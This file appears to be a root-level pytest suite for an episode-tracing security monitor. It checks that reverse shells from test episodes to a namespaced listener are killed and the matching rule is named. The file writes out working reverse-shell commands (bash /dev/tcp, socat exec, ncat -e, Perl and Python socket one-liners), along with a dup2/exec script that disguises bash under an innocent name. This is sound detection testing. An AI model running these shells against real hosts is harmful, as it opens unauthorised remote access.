"""Reverse shells by behaviour (issue 11 part 6, root): real reverse shells
from inside test episodes to a listener in a network namespace (the
outside host) are killed and the rule is named; the listener never gets a
byte of shell output. With every text rule switched off, the ones whose
shell gets the connection itself as its stdin/stdout (socat exec:...,nofork,
perl's open(STDIN, ">&S") + exec, a renamed shell after dup2,
`exec sh <&3 >&3` after /dev/tcp) are still killed, by `reverse-shell`
alone; ncat -e, socat exec: (forking) and pty.spawn put pipes, a
socketpair or a pty in between and are left to the text rules. The same reverse shell outside episodes is
untouched (its output reaches the listener)."""
from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from at_testlib import LiveTracer, have, run_in_episode, wait_for
from nethost import NetHost
from episode_tracer.paths import POLICY_DIR

pytestmark = pytest.mark.root
PY = "/usr/bin/python3"
PORT = 9001  # not a mining port (4444 is refused in the kernel for episodes)

LISTENER = r'''
import json, socket, sys, threading, time
port, log = int(sys.argv[1]), sys.argv[2]
def note(**kw):
    with open(log, "a") as f:
        f.write(json.dumps(kw) + "\n")
def serve(c):
    note(event="connect")
    try:
        c.sendall(b"echo MARK-$((6*7))-OUT\nexit\n")
    except OSError:
        pass
    c.settimeout(15)
    got = b""
    try:
        while True:
            d = c.recv(4096)
            if not d:
                break
            got += d
            note(event="data", data=d.decode("latin-1"))
    except OSError:
        pass
    note(event="closed", total=len(got))
s = socket.socket(socket.AF_INET6)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("::", port))
s.listen(16)
while True:
    c, _ = s.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
'''

# dup2 a connected socket onto 0, 1, 2 and exec a program: no suspicious
# text on any command line (a script file, and the shell renamed)
DUP_EXEC = r'''
import os, socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv(sys.argv[3], [sys.argv[3], "-i"])
'''

TEXT_RULES = ("dev-tcp-redirect", "socat-relay", "socket-relay", "socket-oneliner")


class Listener:
    def __init__(self, ext: NetHost, tmp: Path):
        self.ext, self.log = ext, tmp / "listener.jsonl"
        script = tmp / "listener.py"
        script.write_text(LISTENER)
        ext.spawn_ns([PY, "-S", str(script), str(PORT), str(self.log)], stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)
        ext.wait_listening(PORT, timeout=15)

    def events(self) -> list[dict]:
        try:
            return [json.loads(x) for x in self.log.read_text().splitlines() if x.strip()]
        except FileNotFoundError:
            return []

    def data_since(self, n: int) -> str:
        return "".join(e.get("data", "") for e in self.events()[n:] if e["event"] == "data")

    def nothing_arrives(self, n: int, for_s: float = 1.5) -> bool:
        """No byte from the shell came in for `for_s` seconds after event n."""
        deadline = time.monotonic() + for_s
        while time.monotonic() < deadline:
            if self.data_since(n):
                return False
            time.sleep(0.05)
        return True


@pytest.fixture(scope="module")
def ext(tmp_path_factory):
    if os.geteuid() != 0:
        pytest.skip("needs root: loads BPF programs and creates cgroups/netns")
    tmp = tmp_path_factory.mktemp("rsh")
    with NetHost(tmp) as h:
        h.listener = Listener(h, tmp)
        yield h


@pytest.fixture(scope="module")
def tools(tmp_path_factory):
    d = tmp_path_factory.mktemp("rsh-tools")
    notes = d / "notes"  # bash under an innocent name
    shutil.copy("/bin/bash", notes)
    notes.chmod(0o755)
    script = d / "sync_helper.py"
    script.write_text(DUP_EXEC)
    return {"notes": str(notes), "dup_exec": str(script), "dir": d}


def _shells(ext, tools):
    a = ext.addr
    return {
        "bash-dev-tcp": (["/bin/bash", "-c", f"bash -i >& /dev/tcp/{a}/{PORT} 0>&1"], {"dev-tcp-redirect"}),
        "socat-exec-sh": (["socat", "exec:sh -i,pty,stderr,setsid,sigint,sane", f"tcp:{a}:{PORT}"], {"socat-relay"}),
        "ncat-e-sh": (["ncat", "-e", "/bin/sh", a, str(PORT)], {"socket-relay"}),  # ncat relays through pipes
        "socat-nofork-sh": (["socat", f"tcp:{a}:{PORT}", "exec:sh -i,nofork"], {"socat-relay", "reverse-shell"}),
        "perl-open-exec": (["perl", "-e", f'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
                            f'connect(S,sockaddr_in({PORT},inet_aton("{a}")));open(STDIN,">&S");open(STDOUT,">&S");'
                            'open(STDERR,">&S");exec("/bin/sh -i");'], {"socket-oneliner", "reverse-shell"}),
        "python-pty": ([PY, "-c", f"import socket,os,pty;s=socket.socket();s.connect(('{a}',{PORT}));"
                        "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"], {"socket-oneliner"}),
        "renamed-shell": ([PY, tools["dup_exec"], a, str(PORT), tools["notes"]], {"reverse-shell"}),
        "dev-tcp-fd-exec-sh": (["/bin/bash", "-c", f"exec 3<>/dev/tcp/{a}/{PORT}; exec sh <&3 >&3 2>&3"],
                               {"dev-tcp-redirect", "reverse-shell"}),
    }


@pytest.fixture(scope="module")
def packs(ext):
    t = LiveTracer(policy=True, policy_dirs=[POLICY_DIR], monitor=False).start()
    t.stopped = False
    try:
        yield t
    finally:
        if not t.stopped:
            t.stop()


CASES = ["bash-dev-tcp", "socat-exec-sh", "ncat-e-sh", "python-pty", "renamed-shell", "dev-tcp-fd-exec-sh",
         "socat-nofork-sh", "perl-open-exec"]


@pytest.mark.parametrize("case", CASES)
def test_reverse_shell_killed_by_default_packs(packs, ext, tools, episode_id, case):
    argv, rules = _shells(ext, tools)[case]
    if not have(argv[0]):
        pytest.skip(f"{argv[0]} not installed (scripts/install.sh)")
    n = len(ext.listener.events())
    res = run_in_episode(episode_id, argv, timeout=30)
    got = wait_for(lambda: [a for a in packs.find(type="alert", episode=episode_id) if a["rule"] in rules], 10)
    assert got, f"no alert from {rules}: {[a['rule'] for a in packs.find(type='alert', episode=episode_id)]}"
    assert got[0]["action"] == "kill" and got[0]["enforced"] is True, got[0]
    assert res.exit_code != 0 or res.signal is not None, res
    assert ext.listener.nothing_arrives(n), f"the listener got shell output: {ext.listener.data_since(n)!r}"


def test_renamed_shell_alert_names_the_peer(packs, ext, tools, episode_id):
    n = len(ext.listener.events())
    run_in_episode(episode_id, [PY, tools["dup_exec"], ext.addr, str(PORT), tools["notes"]], timeout=30)
    a = packs.expect_alert(episode_id, "reverse-shell", timeout=10)
    assert a["matched"]["stdio_remote"] == ext.addr and a["exe"] == tools["notes"]
    assert ext.listener.nothing_arrives(n)
    # the live exec record carries what the gate saw, so replay judges it the same
    ex = [r for r in packs.find(type="exec", episode=episode_id) if r.get("stdio")]
    assert ex and {s["fd"] for s in ex[0]["stdio"]} == {0, 1, 2} and ex[0]["stdio"][0]["local"] is False
    from episode_tracer.policy import load_policy, record_context

    pol = load_policy([POLICY_DIR]).policy
    assert "reverse-shell" in {v.rule for v in pol.evaluate(ex[0], record_context(ex[0]))}


def test_loopback_stdio_socket_is_no_reverse_shell(packs, episode_id, tools, tmp_path):
    """The same dup2 + exec to a listener on this node: a local peer."""
    import socket

    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    port = srv.getsockname()[1]
    res = run_in_episode(episode_id, ["/bin/sh", "-c", f"exec {PY} {tools['dup_exec']} 127.0.0.1 {port} /bin/true"],
                         timeout=30)
    srv.close()
    assert res.exit_code == 0, res
    assert [a["rule"] for a in packs.find(type="alert", episode=episode_id)] == []


def test_outside_episodes_untouched(packs, ext, tools):
    n = len(ext.listener.events())
    p = subprocess.run([PY, tools["dup_exec"], ext.addr, str(PORT), tools["notes"]], timeout=30,
                       capture_output=True)
    assert p.returncode == 0
    assert wait_for(lambda: "MARK-42-OUT" in ext.listener.data_since(n), 10), ext.listener.events()[n:]


@pytest.fixture(scope="module")
def behaviour_only(ext, packs, tmp_path_factory):
    """The default packs with every text rule for shells and relays off."""
    if not packs.stopped:  # one live tracer at a time (the lock); the module's other tests ran first
        packs.stop()
        packs.stopped = True
    site = tmp_path_factory.mktemp("rsh-site") / "90-no-text-rules.toml"
    site.write_text("".join(f'[[override]]\nrule = "{r}"\nenabled = false\n\n' for r in TEXT_RULES))
    t = LiveTracer(policy=True, policy_dirs=[POLICY_DIR, site], monitor=False).start()
    try:
        yield t
    finally:
        t.stop()


@pytest.mark.parametrize("case", ["socat-nofork-sh", "perl-open-exec", "renamed-shell", "dev-tcp-fd-exec-sh"])
def test_reverse_shell_killed_by_behaviour_alone(behaviour_only, ext, tools, episode_id, case):
    argv, _ = _shells(ext, tools)[case]
    if not have(argv[0]):
        pytest.skip(f"{argv[0]} not installed (scripts/install.sh)")
    n = len(ext.listener.events())
    run_in_episode(episode_id, argv, timeout=30)
    a = behaviour_only.expect_alert(episode_id, "reverse-shell", timeout=10)
    assert a["action"] == "kill" and a["enforced"] is True and a["matched"]["stdio_remote"] == ext.addr
    assert not set(TEXT_RULES) & {x["rule"] for x in behaviour_only.find(type="alert", episode=episode_id)}
    assert ext.listener.nothing_arrives(n), f"the listener got shell output: {ext.listener.data_since(n)!r}"
